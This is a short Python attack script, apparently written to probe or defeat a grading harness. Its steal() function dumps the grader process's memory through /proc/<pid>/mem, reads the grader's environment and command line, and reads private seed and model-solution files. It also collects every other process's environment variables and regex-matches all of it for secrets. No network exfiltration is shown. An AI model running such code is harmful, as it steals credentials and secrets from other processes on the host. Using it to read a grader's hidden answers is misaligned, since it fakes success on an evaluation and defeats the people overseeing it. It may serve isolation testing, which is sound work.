"""Look everywhere the grader's secrets could be: the grader's environment, command line and memory
through /proc, the private seed file, the grader's own files (references, model solution), every other
process's environment, and our own environment and arguments. attack.json gives the pattern secrets
have (not the secrets); steal() returns, per place, what reading it did and the matches it found."""
import json
import os
import re

HERE = os.path.dirname(os.path.abspath(__file__))


def _parent_memory(pid):
    """Every readable region of the parent's memory (up to 256 MiB)."""
    chunks, total = [], 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or total > 256 * 2**20 or len(fields) > 5 and fields[5].startswith("[v"):
                continue
            try:
                mem.seek(start)
                chunk = mem.read(min(end - start, 64 * 2**20))
            except (OSError, OverflowError, ValueError):
                continue
            chunks.append(chunk)
            total += len(chunk)
    return b"".join(chunks)


def steal():
    with open(os.path.join(HERE, "attack.json")) as f:
        attack = json.load(f)
    pattern = re.compile(attack["pattern"].encode())
    ppid = os.getppid()
    places = {
        "parent environ": lambda: open(f"/proc/{ppid}/environ", "rb").read(),
        "parent cmdline": lambda: open(f"/proc/{ppid}/cmdline", "rb").read(),
        "parent memory": lambda: _parent_memory(ppid),
        "own environ": lambda: "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode(),
        "own cmdline": lambda: open("/proc/self/cmdline", "rb").read(),
    }
    for key, path in attack["files"].items():
        places[key] = (lambda p: lambda: open(p, "rb").read())(path)
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            places[f"environ of {pid}"] = (lambda p: lambda: open(f"/proc/{p}/environ", "rb").read())(pid)
    found = {}
    for key, read in places.items():
        try:
            data = read()
            found[key] = {"read": len(data), "matches": sorted({m.decode() for m in pattern.findall(data)})[:10]}
        except Exception as e:  # noqa: BLE001
            found[key] = {"read": type(e).__name__, "matches": []}
    return found
